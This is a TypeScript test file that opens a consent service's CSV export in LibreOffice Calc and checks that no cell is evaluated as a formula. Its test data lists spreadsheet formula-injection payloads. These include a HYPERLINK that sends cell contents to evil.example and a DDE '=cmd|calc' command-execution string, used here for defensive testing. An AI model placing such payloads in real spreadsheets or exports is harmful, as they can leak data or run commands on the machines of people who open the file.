/*
 * The CSV export in a real spreadsheet: LibreOffice opens it and writes down what it has made of each cell.
 * Takes LibreOffice Calc, which `npm run test:full` installs where it may.
 */
import {spawnSync} from 'node:child_process';
import {mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {afterAll, describe, expect, test} from 'vitest';
import {someConsent, startCollector} from '../../test/collector-fixture.ts';

const FULL = process.env.AKKOORD_FULL === '1';
const reason = !FULL
  ? 'npm run test:full runs it'
  : spawnSync('soffice', ['--version']).error
    ? 'there is no LibreOffice Calc: install libreoffice-calc'
    : null;

const folder = mkdtempSync(join(tmpdir(), 'akkoord-spreadsheet-'));
afterAll(() => rmSync(folder, {recursive: true}));

/** Words that somebody would have a spreadsheet run. */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '=HYPERLINK("https://evil.example/?x="&A1;"click")',
  'a;=1+1',
  '"=1+1"',
  '=cmd|calc!A0',
];

/** What LibreOffice makes of `csv`, as flat XML; cells are parted by `separator`, and whatever looks like a formula is taken for one. */
function opened(name: string, csv: string, separator: ',' | ';' = ','): string {
  writeFileSync(join(folder, `${name}.csv`), csv);
  const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`;
  // UTF-8, from line 1, all columns as standard cells, special numbers, and formulas evaluated.
  const filter = `CSV:${separator.charCodeAt(0)},34,76,1,,0,false,true,false,false,false,-1,true`;
  const args = [profile, '--headless', `--infilter=${filter}`, '--convert-to', 'fods', '--outdir', folder];
  const {status, stderr} = spawnSync('soffice', [...args, join(folder, `${name}.csv`)], {
    encoding: 'utf8',
    timeout: 240_000,
  });
  if (status !== 0) throw new Error(`soffice ended with ${status}: ${stderr}`);
  return readFileSync(join(folder, `${name}.fods`), 'utf8');
}

describe.skipIf(reason !== null)(
  `the CSV export in LibreOffice${reason ? ` (skipped: ${reason})` : ''}`,
  () => {
    test.each([',', ';'] as const)(
      'shows no formula, where cells are parted by %j',
      async separator => {
        const {send, asStaff} = await startCollector();
        for (const text of HOSTILE) await send(someConsent({text}));
        const csv = await (await asStaff('/v1/export?format=csv')).text();
        const sheet = opened(`export-${separator === ',' ? 'comma' : 'semicolon'}`, csv, separator);
        expect(sheet).toContain('table:table-cell');
        expect(sheet.match(/table:formula="[^"]*"/g)).toBeNull();
      },
      300_000,
    );

    test('would show one, were the words written as they are', () => {
      const sheet = opened('naive', `text\r\n${HOSTILE[0]}\r\n`);
      expect(sheet).toMatch(/table:formula="[^"]*1\+1"/);
    }, 300_000);
  },
);
